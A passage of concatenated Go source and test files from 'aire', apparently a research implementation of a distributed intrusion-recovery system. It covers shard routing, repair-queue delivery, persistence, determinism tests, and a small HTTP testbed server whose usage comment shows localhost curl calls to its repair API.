	a := tb.Add(&harness.KVApp{ServiceName: "a"}, core.DefaultConfig())
	good := tb.MustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "v1"))
	tb.MustCall("a", wire.NewRequest("GET", "/get").WithForm("key", "k"))

	path := filepath.Join(t.TempDir(), "a.snap")
	if err := persist.SaveFile(a, path); err != nil {
		t.Fatal(err)
	}
	a2 := core.NewController(&harness.KVApp{ServiceName: "a"}, tb.Bus, core.DefaultConfig())
	if err := persist.LoadFile(a2, path); err != nil {
		t.Fatal(err)
	}
	tb.Bus.Register("a", a2)
	tb.Ctrls["a"] = a2

	// New traffic mints non-colliding IDs and timestamps.
	fresh := tb.MustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "k2", "val", "v2"))
	if fresh.Header[wire.HdrRequestID] == good.Header[wire.HdrRequestID] {
		t.Fatal("restored ID generator reissued an old request ID")
	}

	// Repair a pre-restart request post-restart.
	if _, err := a2.ApplyLocal(warp.Action{
		Kind: warp.ReplaceReq, ReqID: good.Header[wire.HdrRequestID],
		NewReq: wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "fixed"),
	}); err != nil {
		t.Fatal(err)
	}
	if got := string(tb.Call("a", wire.NewRequest("GET", "/get").WithForm("key", "k")).Body); got != "fixed" {
		t.Fatalf("post-restart repair: k = %q", got)
	}
}

func TestApplyGuards(t *testing.T) {
	_, a, _ := buildState(t)
	snap := persist.Capture(a)

	wrong := core.NewController(&harness.KVApp{ServiceName: "other"}, harness.NewTestbed().Bus, core.DefaultConfig())
	if err := persist.Apply(wrong, snap); err == nil {
		t.Fatal("snapshot for another service must be rejected")
	}
	if err := persist.Apply(a, snap); err == nil {
		t.Fatal("restore into a non-empty controller must be rejected")
	}
}
