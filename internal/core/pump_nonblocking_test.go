package core

import (
	"context"
	"sync"
	"testing"
	"time"

	"aire/internal/transport"
	"aire/internal/warp"
	"aire/internal/wire"
)

// TestPumpSlowPeerDoesNotBlockOthers: one peer hanging for a transport
// timeout must not freeze delivery to other peers. The old pump barriered
// every pass on wg.Wait, so a message enqueued while a slow batch was in
// flight waited out the full hang; now the loop starts the next pass while
// slow batches finish (per-peer inflight flags make overlapping passes
// safe).
func TestPumpSlowPeerDoesNotBlockOthers(t *testing.T) {
	const hang = 600 * time.Millisecond

	bus := transport.NewBus()
	ok := transport.HandlerFunc(func(from string, req wire.Request) wire.Response {
		return wire.NewResponse(200, "ok")
	})
	fastArrived := make(chan struct{}, 1)
	bus.Register("slow", ok)
	bus.Register("fast", transport.HandlerFunc(func(from string, req wire.Request) wire.Response {
		select {
		case fastArrived <- struct{}{}:
		default:
		}
		return wire.NewResponse(200, "ok")
	}))
	bus.SetLatency("slow", hang)

	cfg := DefaultConfig()
	cfg.PumpWorkers = 2
	cfg.PumpInterval = 5 * time.Millisecond
	a := NewController(&kvApp{name: "a"}, bus, cfg)
	bus.Register("a", a)

	if err := a.StartPump(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer a.StopPump()

	// The slow peer's batch gets claimed and hangs in the transport.
	a.enqueue([]warp.OutMsg{{Kind: warp.OutDelete, Target: "slow", RemoteReqID: "r1"}}, traceCtx{})
	time.Sleep(50 * time.Millisecond)

	// A message for a healthy peer enqueued mid-hang must go out now, not
	// after the slow delivery reconciles.
	start := time.Now()
	a.enqueue([]warp.OutMsg{{Kind: warp.OutDelete, Target: "fast", RemoteReqID: "r2"}}, traceCtx{})
	select {
	case <-fastArrived:
	case <-time.After(hang):
		t.Fatalf("fast peer starved for %v: pump pass still barriers on the slow batch", hang)
	}
	if waited := time.Since(start); waited > hang/2 {
		t.Fatalf("fast delivery took %v, should not have waited out the slow peer's %v hang", waited, hang)
	}

	if !a.WaitQueueEmpty(5 * time.Second) {
		t.Fatalf("queue did not drain: %d left", a.QueueLen())
	}
}

// TestRetryLiveMessageAppliesUpdatedHeaders is the regression test for
// Retry on a live (not-held) message: the updated credential headers used
// to be silently dropped; they must instead supersede the in-flight
// content through the generation-bump path and ride the next delivery.
func TestRetryLiveMessageAppliesUpdatedHeaders(t *testing.T) {
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a", mirror: "b"}, DefaultConfig())
	b := tb.add(&kvApp{name: "b"}, DefaultConfig())

	var mu sync.Mutex
	var carriers []wire.Request
	tb.bus.Register("b", transport.HandlerFunc(func(from string, req wire.Request) wire.Response {
		if req.Path == "/aire/repair" {
			mu.Lock()
			carriers = append(carriers, req.Clone())
			mu.Unlock()
		}
		return b.HandleWire(from, req)
	}))

	tb.call("a", wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "good"))
	attack := tb.call("a", wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "evil"))

	tb.bus.SetOffline("b", true)
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	a.Flush() // one failed attempt; the message is live, not held
	pending := a.Pending()
	if len(pending) != 1 || pending[0].Held {
		t.Fatalf("expected one live pending message, got %+v", pending)
	}

	if err := a.Retry(pending[0].MsgID, map[string]string{"Authorization": "fresh-token"}); err != nil {
		t.Fatal(err)
	}

	tb.bus.SetOffline("b", false)
	tb.settle(20)
	if a.QueueLen() != 0 {
		t.Fatalf("queue did not drain: %+v", a.Pending())
	}

	mu.Lock()
	defer mu.Unlock()
	if len(carriers) == 0 {
		t.Fatal("no repair carrier reached b")
	}
	last := carriers[len(carriers)-1]
	if got := last.Header["Authorization"]; got != "fresh-token" {
		t.Fatalf("delivered carrier lost the Retry headers: Authorization = %q, headers %+v", got, last.Header)
	}
}
