package core

import (
	"context"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"strings"
	"time"

	"aire/internal/sched"
	"aire/internal/warp"
	"aire/internal/wire"
)

// This file is the horizontal-scale shard layer (ROADMAP item 1): one
// service partitioned by key into N shard instances, each a full Controller
// with its own versioned store, repair log, dedup inbox, pump partition
// set, and — when durability is on — its own wal.Writer and independent
// checkpoint/recovery. There is deliberately NO cross-shard log ordering:
// the only thing that orders a cross-shard repair batch is the existing
// two-phase gate (batch-accept per shard, then ProcessIncoming's atomic
// apply+drain), exactly the machinery that already orders cross-*service*
// batches.
//
// Routing has two planes:
//
//   - Normal (exec) traffic is routed by a deterministic key→shard map
//     (ShardTopology.KeyOf + FNV hash), carried on the wire as the
//     Aire-Shard header when a sender resolves it ahead of time.
//
//   - Repair-plane carriers route *themselves*: every identifier a shard
//     mints (request, response, token, delivery IDs) is prefixed with the
//     shard-qualified service name ("svc#i"), so a carrier that names a
//     remote request ID, a create anchor, or a fetch token already names
//     its destination shard. Senders resolve the shard from the ID
//     (Controller.peerDest) and deliver directly to the shard's transport
//     name, keeping per-(peer, shard) FIFO order, version vectors, and
//     backoff; the router's repair path is only a fallback for externally
//     originated repair API calls.

// ShardTopology is the deterministic key→shard map for a set of services.
// The zero count for a service means unsharded (one controller under the
// base name). Topologies are immutable once controllers are constructed
// from them: every sender and every shard must agree on the map.
type ShardTopology struct {
	counts map[string]int
	// KeyFunc extracts the partition key from a request (nil means the
	// "key" form field — the convention the harness KV apps use). Requests
	// with an empty key deterministically land on shard 0.
	KeyFunc func(req wire.Request) string
}

// NewShardTopology returns an empty topology (every service unsharded).
func NewShardTopology() *ShardTopology {
	return &ShardTopology{counts: make(map[string]int)}
}

// SetShards declares svc to be partitioned into n shards (n <= 1 means
// unsharded). Call before constructing controllers.
func (t *ShardTopology) SetShards(svc string, n int) {
	if n < 1 {
		n = 1
	}
	t.counts[svc] = n
}

// Shards reports how many shards svc has (1 when undeclared or unsharded).
func (t *ShardTopology) Shards(svc string) int {
	if t == nil {
		return 1
	}
	if n := t.counts[svc]; n > 1 {
		return n
	}
	return 1
}

// ShardName returns the transport name of svc's i-th shard: "svc#i" when
// svc is sharded, svc itself when not. The '#' qualifier is what makes
// every shard-minted identifier ("svc#i-req-42") name its owning shard.
func (t *ShardTopology) ShardName(svc string, i int) string {
	if t.Shards(svc) <= 1 {
		return svc
	}
	return fmt.Sprintf("%s#%d", svc, i)
}

// ShardBaseName strips the shard qualifier from a transport name:
// "svc#3" -> "svc", "svc" -> "svc". Identity for unsharded names.
func ShardBaseName(name string) string {
	if i := strings.IndexByte(name, '#'); i >= 0 {
		return name[:i]
	}
	return name
}

// KeyOf extracts the partition key from a request.
func (t *ShardTopology) KeyOf(req wire.Request) string {
	if t.KeyFunc != nil {
		return t.KeyFunc(req)
	}
	return req.Form["key"]
}

// ShardOf maps a partition key to a shard index for svc. The map is a
// plain FNV-32a hash mod the shard count — deterministic across processes
// and restarts, which is what lets every sender resolve it independently.
func (t *ShardTopology) ShardOf(svc, key string) int {
	n := t.Shards(svc)
	if n <= 1 {
		return 0
	}
	h := fnv.New32a()
	h.Write([]byte(key))
	return int(h.Sum32() % uint32(n))
}

// Resolve returns the transport name of the shard serving key at svc.
func (t *ShardTopology) Resolve(svc, key string) string {
	return t.ShardName(svc, t.ShardOf(svc, key))
}

// shardFromID recovers the shard name embedded in an identifier minted by
// one of base's shards: "base#3-req-17" -> ("base#3", true). Returns false
// for IDs minted by an unsharded service (or anything else).
func shardFromID(base, id string) (string, bool) {
	p := base + "#"
	if !strings.HasPrefix(id, p) {
		return "", false
	}
	rest := id[len(p):]
	j := strings.IndexByte(rest, '-')
	if j <= 0 {
		return "", false
	}
	for _, ch := range rest[:j] {
		if ch < '0' || ch > '9' {
			return "", false
		}
	}
	return id[:len(p)+j], true
}

// peerDest resolves the transport destination of a queued repair message.
// Without a topology this is exactly the classic peerKey partition (the
// target service, or the notifier host for replace_response). With one,
// repair carriers bound for a sharded peer resolve to the owning shard:
// replace/delete from the peer-minted request ID they name, create from
// its anchor IDs (falling back to the key map for anchorless creates),
// replace_response from the notifier URL — which a shard minted from its
// own qualified name, so it needs no resolution. The result keys the
// per-peer FIFO partition, backoff state, and version vectors, so all
// three are naturally per (peer, shard).
func (c *Controller) peerDest(m warp.OutMsg) string {
	k := peerKey(m)
	if c.topo == nil || m.Kind == warp.OutReplaceResponse {
		return k
	}
	if c.topo.Shards(k) <= 1 {
		return k
	}
	switch m.Kind {
	case warp.OutReplace, warp.OutDelete:
		if s, ok := shardFromID(k, m.RemoteReqID); ok {
			return s
		}
	case warp.OutCreate:
		if s, ok := shardFromID(k, m.BeforeID); ok {
			return s
		}
		if s, ok := shardFromID(k, m.AfterID); ok {
			return s
		}
	}
	return c.topo.Resolve(k, c.topo.KeyOf(m.Req))
}

// ShardedController is the router fronting one sharded service: it owns
// the service's transport name and dispatches to the shard controllers,
// which are additionally registered under their own qualified names so
// repair-plane peers can address them directly. It implements the same
// transport.Handler contract a Controller does, plus aggregate forms of
// the surfaces harnesses and operators drive (Flush, ProcessIncoming,
// ApplyLocal, pumps, stats).
type ShardedController struct {
	// Base is the service's unqualified name (the router's transport name).
	Base string
	// Topo is the shared topology the shards were built from.
	Topo *ShardTopology

	shards []*Controller
	byName map[string]*Controller
	sd     sched.Scheduler
}

// NewShardedController wraps base's shard controllers (index order) in a
// router. Every shard must have been constructed with the same topology
// and the qualified name topo.ShardName(base, i).
func NewShardedController(base string, topo *ShardTopology, shards []*Controller) *ShardedController {
	if len(shards) != topo.Shards(base) {
		panic(fmt.Sprintf("core: %s has %d shard controllers, topology says %d", base, len(shards), topo.Shards(base)))
	}
	s := &ShardedController{
		Base:   base,
		Topo:   topo,
		shards: append([]*Controller(nil), shards...),
		byName: make(map[string]*Controller, len(shards)),
		sd:     shards[0].sd,
	}
	for i, c := range shards {
		want := topo.ShardName(base, i)
		if c.Svc.Name != want {
			panic(fmt.Sprintf("core: shard %d of %s is named %q, want %q", i, base, c.Svc.Name, want))
		}
		s.byName[c.Svc.Name] = c
	}
	return s
}

// Controllers returns the shard controllers in index order. The slice is
// shared: callers must not mutate it.
func (s *ShardedController) Controllers() []*Controller { return s.shards }

// Shard returns the i-th shard controller.
func (s *ShardedController) Shard(i int) *Controller { return s.shards[i] }

// SetShard replaces the i-th shard controller (crash-restart: the harness
// rebuilds a shard from disk and swaps it in). Not safe concurrently with
// routing; the simulator only calls it with the world quiesced.
func (s *ShardedController) SetShard(i int, c *Controller) {
	delete(s.byName, s.shards[i].Svc.Name)
	s.shards[i] = c
	s.byName[c.Svc.Name] = c
}

// HandleWire routes one request to its shard. For externally originated
// traffic (from == "": clients, admin tools, the harness workload) the
// routing decision is a named scheduler yield point ("shard-route") so
// seeded schedules cover the window between a request's arrival and its
// dispatch. Nested service-to-service calls skip the yield: they execute
// synchronously inside the calling shard's handler, which holds that
// shard's Svc.Mu — parking the task there would let another task block on
// the held mutex and wedge the cooperative scheduler. The router only
// exists for sharded services, so unsharded (N=1) runs see no new yield
// points and their seed digests stay byte-identical.
func (s *ShardedController) HandleWire(from string, req wire.Request) wire.Response {
	if from == "" {
		s.sd.YieldNamed("shard-route") // schedule point: about to pick a shard
	}
	if req.Path == "/aire/poll" {
		return s.handlePollFanout(from, req)
	}
	return s.route(req).HandleWire(from, req)
}

// route picks the shard a request belongs to, most-specific signal first:
// the Aire-Shard header a shard-aware sender stamped; any shard-minted
// identifier the request names (repair target, create anchors, fetch
// token); finally the deterministic key map. Requests with none of these
// (keyless exec traffic) land on shard 0.
func (s *ShardedController) route(req wire.Request) *Controller {
	if h := req.Header[wire.HdrShard]; h != "" {
		if c := s.byName[h]; c != nil {
			return c
		}
	}
	for _, id := range []string{
		req.Header[wire.HdrRequestID],
		req.Form["before_id"],
		req.Form["after_id"],
		req.Form["token"],
	} {
		if id == "" {
			continue
		}
		if name, ok := shardFromID(s.Base, id); ok {
			if c := s.byName[name]; c != nil {
				return c
			}
		}
	}
	return s.shards[s.Topo.ShardOf(s.Base, s.Topo.KeyOf(req))]
}

// handlePollFanout merges every shard's parked response-repair tokens for
// a polling client: the client has no idea which shards repaired responses
// it saw, so /aire/poll is the one endpoint that genuinely fans out.
func (s *ShardedController) handlePollFanout(from string, req wire.Request) wire.Response {
	var tokens []string
	for _, c := range s.shards {
		resp := c.HandleWire(from, req)
		if !resp.OK() {
			return resp
		}
		var part []string
		if err := json.Unmarshal(resp.Body, &part); err != nil {
			return wire.NewResponse(500, "aire: bad poll payload from "+c.Svc.Name)
		}
		tokens = append(tokens, part...)
	}
	body, err := json.Marshal(tokens)
	if err != nil {
		return wire.NewResponse(500, "aire: "+err.Error())
	}
	return wire.Response{Status: 200, Header: map[string]string{}, Body: body}
}

// routeAction picks the shard a local repair action belongs to, using the
// same signals the wire path uses: the request ID the action names, a
// create's anchors, else the key map over the new request.
func (s *ShardedController) routeAction(a warp.Action) *Controller {
	for _, id := range []string{a.ReqID, a.BeforeID, a.AfterID} {
		if id == "" {
			continue
		}
		if name, ok := shardFromID(s.Base, id); ok {
			if c := s.byName[name]; c != nil {
				return c
			}
		}
	}
	var req wire.Request
	switch a.Kind {
	case warp.CreateReq, warp.ReplaceReq:
		req = a.NewReq
	}
	return s.shards[s.Topo.ShardOf(s.Base, s.Topo.KeyOf(req))]
}

// ApplyLocal routes each action to its shard and applies them in order
// (an administrator's repair names shard-minted request IDs, so the
// routing is exact). Results are merged; CreatedIDs concatenate in action
// order.
func (s *ShardedController) ApplyLocal(actions ...warp.Action) (*warp.Result, error) {
	merged := &warp.Result{}
	for _, a := range actions {
		res, err := s.routeAction(a).ApplyLocal(a)
		if err != nil {
			return nil, err
		}
		merged.RepairedRequests += res.RepairedRequests
		merged.TotalRequests += res.TotalRequests
		merged.RepairedModelOps += res.RepairedModelOps
		merged.TotalModelOps += res.TotalModelOps
		merged.Duration += res.Duration
		merged.CreatedIDs = append(merged.CreatedIDs, res.CreatedIDs...)
		merged.Notices = append(merged.Notices, res.Notices...)
	}
	return merged, nil
}

// Flush runs one synchronous delivery pass per shard and sums the counts.
func (s *ShardedController) Flush() (delivered, remaining int) {
	for _, c := range s.shards {
		d, r := c.Flush()
		delivered += d
		remaining += r
	}
	return delivered, remaining
}

// ProcessIncoming applies every shard's batched incoming repairs. The
// merged result is nil only if every shard's inbox was empty; the first
// error aborts (remaining shards keep their batches for the next sweep).
func (s *ShardedController) ProcessIncoming() (*warp.Result, error) {
	var merged *warp.Result
	for _, c := range s.shards {
		res, err := c.ProcessIncoming()
		if err != nil {
			return merged, err
		}
		if res == nil {
			continue
		}
		if merged == nil {
			merged = &warp.Result{}
		}
		merged.RepairedRequests += res.RepairedRequests
		merged.TotalRequests += res.TotalRequests
		merged.RepairedModelOps += res.RepairedModelOps
		merged.TotalModelOps += res.TotalModelOps
		merged.Duration += res.Duration
		merged.CreatedIDs = append(merged.CreatedIDs, res.CreatedIDs...)
		merged.Notices = append(merged.Notices, res.Notices...)
	}
	return merged, nil
}

// QueueLen sums the shards' outgoing queues.
func (s *ShardedController) QueueLen() int {
	n := 0
	for _, c := range s.shards {
		n += c.QueueLen()
	}
	return n
}

// InboxLen sums the shards' incoming batch queues.
func (s *ShardedController) InboxLen() int {
	n := 0
	for _, c := range s.shards {
		n += c.InboxLen()
	}
	return n
}

// WaitQueueEmpty waits for every shard's queue to drain within the shared
// timeout.
func (s *ShardedController) WaitQueueEmpty(timeout time.Duration) bool {
	deadline := time.Now().Add(timeout)
	for _, c := range s.shards {
		left := time.Until(deadline)
		if left <= 0 || !c.WaitQueueEmpty(left) {
			return false
		}
	}
	return true
}

// StartPump starts every shard's background pump (stopping the ones
// already started if any fails).
func (s *ShardedController) StartPump(ctx context.Context) error {
	for i, c := range s.shards {
		if err := c.StartPump(ctx); err != nil {
			for _, started := range s.shards[:i] {
				started.StopPump()
			}
			return err
		}
	}
	return nil
}

// StopPump stops every shard's background pump.
func (s *ShardedController) StopPump() {
	for _, c := range s.shards {
		c.StopPump()
	}
}

// Stats sums the shards' counters.
func (s *ShardedController) Stats() Stats {
	var t Stats
	for _, c := range s.shards {
		st := c.Stats()
		t.Requests += st.Requests
		t.RepairsRun += st.RepairsRun
		t.MsgsQueued += st.MsgsQueued
		t.MsgsDelivered += st.MsgsDelivered
		t.MsgsFailed += st.MsgsFailed
		t.DupDeliveries += st.DupDeliveries
		t.StaleDeliveries += st.StaleDeliveries
		t.InboxCommits += st.InboxCommits
		t.BatchApplies += st.BatchApplies
	}
	return t
}
