package warp

import (
	"fmt"
	"testing"
	"testing/quick"

	"aire/internal/orm"
	"aire/internal/repairlog"
	"aire/internal/web"
	"aire/internal/wire"
)

// TestReplayDeterminismProperty is §3.3's stability precondition as a
// property test: repairing the same request twice in a row (an idempotent
// replace) leaves the service byte-for-byte stable — same responses, same
// write sets, no new repair messages — for handlers that consume time,
// randomness, and derived IDs.
func TestReplayDeterminismProperty(t *testing.T) {
	f := func(vals []uint16) bool {
		if len(vals) == 0 || len(vals) > 20 {
			return true
		}
		r := newRig(t, func(svc *web.Service) {
			svc.Schema.Register("kv")
			svc.Router.Handle("POST", "/op", func(c *web.Ctx) wire.Response {
				// A handler soaking in nondeterminism: derived IDs, time,
				// randomness, and data-dependent writes.
				id := c.NewID()
				when := c.Now()
				coin := c.Rand() % 2
				val := fmt.Sprintf("%s@%d", c.Form("v"), when)
				if err := c.DB.Put("kv", id, orm.Fields("v", val)); err != nil {
					return c.Error(500, err.Error())
				}
				if coin == 0 {
					if err := c.DB.Put("kv", "even-"+c.Form("v"), orm.Fields("v", val)); err != nil {
						return c.Error(500, err.Error())
					}
				}
				return c.OK(id + "/" + val)
			})
		})
		// Real wall-clock-ish sources to prove recording works.
		tick := int64(1000)
		r.svc.TimeSource = func() int64 { tick += 7; return tick }

		var ids []string
		for _, v := range vals {
			rec := r.handle(t, wire.NewRequest("POST", "/op").WithForm("v", fmt.Sprint(v)), false)
			ids = append(ids, rec.ID)
		}
		target := ids[int(vals[0])%len(ids)]
		rec, _ := r.svc.Log.Get(target)
		input := rec.Req.Clone()

		snapshot := func() string {
			out := ""
			for _, rr := range r.svc.Log.All() {
				out += rr.ID + "=>" + string(rr.Resp.Body) + ";"
				for _, w := range rr.Writes {
					out += w.Key.String() + ","
				}
			}
			return out
		}

		// First idempotent replace.
		res1, err := r.engine.Repair([]Action{{Kind: ReplaceReq, ReqID: target, NewReq: input}})
		if err != nil {
			t.Fatalf("repair 1: %v", err)
		}
		s1 := snapshot()
		// Second: must be a fixed point.
		res2, err := r.engine.Repair([]Action{{Kind: ReplaceReq, ReqID: target, NewReq: input}})
		if err != nil {
			t.Fatalf("repair 2: %v", err)
		}
		s2 := snapshot()
		if s1 != s2 {
			t.Logf("state diverged:\n%s\n%s", s1, s2)
			return false
		}
		// Only the directly-targeted request may re-execute on the second
		// pass (its deps are all unchanged).
		if res2.RepairedRequests > res1.RepairedRequests {
			t.Logf("second repair grew: %d then %d", res1.RepairedRequests, res2.RepairedRequests)
			return false
		}
		if len(res2.Msgs) != 0 {
			t.Logf("fixed-point repair emitted messages: %+v", res2.Msgs)
			return false
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 40}); err != nil {
		t.Fatal(err)
	}
}

// BenchmarkLocalRepair measures the engine's rollback+replay cost on a log
// where a fixed fraction of requests is affected.
func BenchmarkLocalRepair(b *testing.B) {
	for _, total := range []int{100, 500} {
		b.Run(fmt.Sprintf("log=%d", total), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				r := newRigB(b)
				atk := r.handle2(b, put("hot", "evil"))
				for j := 0; j < total; j++ {
					if j%5 == 0 {
						r.handle2(b, wire.NewRequest("GET", "/get").WithForm("key", "hot"))
					} else {
						r.handle2(b, put(fmt.Sprintf("cold%d", j), "x"))
					}
				}
				b.StartTimer()
				if _, err := r.engine.Repair([]Action{{Kind: CancelReq, ReqID: atk.ID}}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// newRigB / handle2 are Benchmark-friendly variants of the test rig.
func newRigB(b *testing.B) *rig {
	b.Helper()
	svc := web.NewService("rig")
	svc.TimeSource = func() int64 { return 42 }
	kvRoutes(svc)
	return &rig{svc: svc, engine: &Engine{Svc: svc, Cfg: DefaultConfig()}}
}

func (r *rig) handle2(b *testing.B, req wire.Request) *repairlog.Record {
	b.Helper()
	rec := &repairlog.Record{
		ID:  r.svc.IDs.Request(),
		TS:  r.svc.Clock.Next(),
		Req: req,
	}
	exec := &web.Exec{Svc: r.svc, Rec: rec, Mode: web.Normal, Outbound: func(seq int, target string, req wire.Request) (wire.Response, repairlog.Call) {
		return wire.NewResponse(200, "remote-ok"), repairlog.Call{Target: target}
	}}
	rec.Resp = exec.Run()
	if err := r.svc.Log.Append(rec); err != nil {
		b.Fatal(err)
	}
	return rec
}
