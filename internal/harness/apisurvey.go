package harness

import (
	"fmt"
	"strings"
)

// SurveyEntry classifies one popular web-service API for Table 3: every
// service offers a simple last-writer-wins CRUD interface, and half also
// expose a versioning API (which, per §5.2, needs branching to support
// partially repaired states).
type SurveyEntry struct {
	Service     string
	SimpleCRUD  bool
	Versioned   bool
	Description string
}

// APISurvey is the paper's Table 3.
var APISurvey = []SurveyEntry{
	{"Amazon S3", true, true, "Simple file storage"},
	{"Google Docs", true, true, "Office applications"},
	{"Google Drive", true, true, "File hosting"},
	{"Dropbox", true, true, "File hosting"},
	{"Github", true, true, "Project hosting"},
	{"Facebook", true, false, "Social networking"},
	{"Twitter", true, false, "Social microblogging"},
	{"Flickr", true, false, "Photo sharing"},
	{"Salesforce", true, false, "Web-based CRM"},
	{"Heroku", true, false, "Cloud apps platform"},
}

// FormatAPISurvey renders Table 3 as text.
func FormatAPISurvey() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-14s %-7s %-10s %s\n", "Service", "CRUD", "Versioned", "Description")
	for _, e := range APISurvey {
		mark := func(v bool) string {
			if v {
				return "yes"
			}
			return "-"
		}
		fmt.Fprintf(&b, "%-14s %-7s %-10s %s\n", e.Service, mark(e.SimpleCRUD), mark(e.Versioned), e.Description)
	}
	return b.String()
}
