package core

import (
	"context"
	"sync"
	"testing"
	"time"

	"aire/internal/warp"
	"aire/internal/wire"
)

// TestQueueConcurrencyHammer drives enqueue (via ApplyLocal replaces that
// collapse onto one key), Flush, Retry, Drop, Pending, and the background
// pump from many goroutines at once — the exact mix that used to race when
// Flush mutated Held/Attempts without qmu — and checks the collapse
// invariant throughout: the queue never holds two messages about the same
// request/response. Run under -race (CI does).
func TestQueueConcurrencyHammer(t *testing.T) {
	tb := newTestbed()
	cfg := DefaultConfig()
	cfg.PumpWorkers = 4
	cfg.PumpInterval = time.Millisecond
	a := tb.add(&kvApp{name: "a", mirror: "b"}, cfg)
	tb.add(&kvApp{name: "b"}, DefaultConfig())

	seed := tb.call("a", put("x", "v0"))
	reqID := seed.Header[wire.HdrRequestID]
	tb.settle(10)

	checkCollapseInvariant := func() {
		seen := map[string]int{}
		for _, p := range a.Pending() {
			if key := collapseKey(p.Msg); key != "" {
				seen[key]++
			}
		}
		for key, n := range seen {
			if n > 1 {
				t.Errorf("collapse invariant violated: %d queued messages for %s", n, key)
			}
		}
	}

	if err := a.StartPump(context.Background()); err != nil {
		t.Fatal(err)
	}

	const iters = 150
	var repairers, churners sync.WaitGroup
	stop := make(chan struct{})

	// Repairers: concurrent replaces of the same request; every resulting
	// message collapses onto the same key.
	for g := 0; g < 2; g++ {
		repairers.Add(1)
		go func() {
			defer repairers.Done()
			for i := 0; i < iters; i++ {
				_, err := a.ApplyLocal(warp.Action{
					Kind: warp.ReplaceReq, ReqID: reqID,
					NewReq: put("x", "hammer"),
				})
				if err != nil {
					t.Errorf("replace: %v", err)
					return
				}
			}
		}()
	}
	// Flushers: synchronous passes racing the background pump.
	for g := 0; g < 2; g++ {
		churners.Add(1)
		go func() {
			defer churners.Done()
			for {
				select {
				case <-stop:
					return
				default:
					a.Flush()
				}
			}
		}()
	}
	// Outage injector: flip the peer off and on so retry/hold paths run.
	churners.Add(1)
	go func() {
		defer churners.Done()
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
				tb.bus.SetOffline("b", i%2 == 0)
				// Pacing, not synchronization: the churner just should not
				// monopolize a core; nothing waits on this timing.
				time.Sleep(time.Millisecond)
			}
		}
	}()
	// Administrator: revive held messages, drop the occasional one, and
	// verify the collapse invariant on live snapshots.
	churners.Add(1)
	go func() {
		defer churners.Done()
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
				checkCollapseInvariant()
				for _, p := range a.Pending() {
					if p.Held {
						_ = a.Retry(p.MsgID, map[string]string{"X-Retry": "1"})
					} else if i%7 == 0 {
						_ = a.Drop(p.MsgID) // racing Drop is allowed to miss
					}
				}
				a.QueueLen()
			}
		}
	}()

	repairers.Wait()
	close(stop)
	churners.Wait()
	a.StopPump()

	// Quiesce: peer online, one final authoritative repair, drain, verify.
	tb.bus.SetOffline("b", false)
	if _, err := a.ApplyLocal(warp.Action{
		Kind: warp.ReplaceReq, ReqID: reqID, NewReq: put("x", "final"),
	}); err != nil {
		t.Fatal(err)
	}
	for _, p := range a.Pending() {
		if p.Held {
			if err := a.Retry(p.MsgID, nil); err != nil {
				t.Fatal(err)
			}
		}
	}
	tb.settle(50)
	checkCollapseInvariant()
	if q := a.QueueLen(); q != 0 {
		t.Fatalf("queue not drained: %d left: %+v", q, a.Pending())
	}
	if got := string(tb.call("b", get("x")).Body); got != "final" {
		t.Fatalf("b = %q, want %q (most recent repair wins)", got, "final")
	}
}
