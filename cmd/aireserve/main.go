// Command aireserve runs an Aire-enabled two-service testbed (a notes-like
// KV service mirrored to a feed service) over real HTTP sockets, so the
// repair protocol can be exercised with curl.
//
//	aireserve -a :8031 -b :8032
//
// Example session:
//
//	curl -XPOST 'http://localhost:8031/put?key=x&val=hello'   # mirrored to B
//	curl 'http://localhost:8032/get?key=x'
//	# repair: delete the put on A using the Aire-Request-Id header it returned
//	curl -XPOST http://localhost:8031/aire/repair \
//	     -H 'Aire-Repair: delete' -H "Aire-Request-Id: $ID"
//	curl 'http://localhost:8032/get?key=x'                    # gone after flush
//
// Outgoing repair queues are flushed every -flush interval.
package main

import (
	"flag"
	"fmt"
	"log"
	"net/http"
	"time"

	"aire"
	"aire/internal/harness"
	"aire/internal/transport"
)

func main() {
	addrA := flag.String("a", "127.0.0.1:8031", "listen address for service a")
	addrB := flag.String("b", "127.0.0.1:8032", "listen address for service b")
	flush := flag.Duration("flush", time.Second, "outgoing repair queue flush interval")
	flag.Parse()

	caller := &transport.HTTPCaller{BaseURLs: map[string]string{
		"a": "http://" + *addrA,
		"b": "http://" + *addrB,
	}}
	ctrlA := aire.NewService(&harness.KVApp{ServiceName: "a", Mirror: "b"}, caller)
	ctrlB := aire.NewService(&harness.KVApp{ServiceName: "b"}, caller)

	go func() {
		log.Fatal(http.ListenAndServe(*addrA, transport.NewHTTPHandler(ctrlA)))
	}()
	go func() {
		log.Fatal(http.ListenAndServe(*addrB, transport.NewHTTPHandler(ctrlB)))
	}()
	go func() {
		for range time.Tick(*flush) {
			ctrlA.Flush()
			ctrlB.Flush()
		}
	}()

	fmt.Printf("aire: service a (mirrors to b) on http://%s\n", *addrA)
	fmt.Printf("aire: service b on http://%s\n", *addrB)
	fmt.Println("aire: try POST /put?key=x&val=hello on a, then GET /get?key=x on b,")
	fmt.Println("aire: then POST /aire/repair with Aire-Repair: delete + Aire-Request-Id headers")
	select {}
}
