package harness

import (
	"fmt"
	"strings"

	"aire/internal/apps/askbot"
	"aire/internal/apps/dpaste"
	"aire/internal/apps/oauthsvc"
	"aire/internal/core"
	"aire/internal/wire"
)

// Tokens used by the Askbot scenario's administrators.
const (
	OAuthAdminToken  = "oauth-admin-token"
	AskbotAdminToken = "askbot-admin-token"
)

// AskbotScenario reproduces the paper's main attack (§7.1, Figure 4): an
// OAuth provider misconfiguration lets an attacker sign up to Askbot as a
// victim and post a question whose code snippet Askbot crossposts to
// Dpaste, spreading the attack across three services.
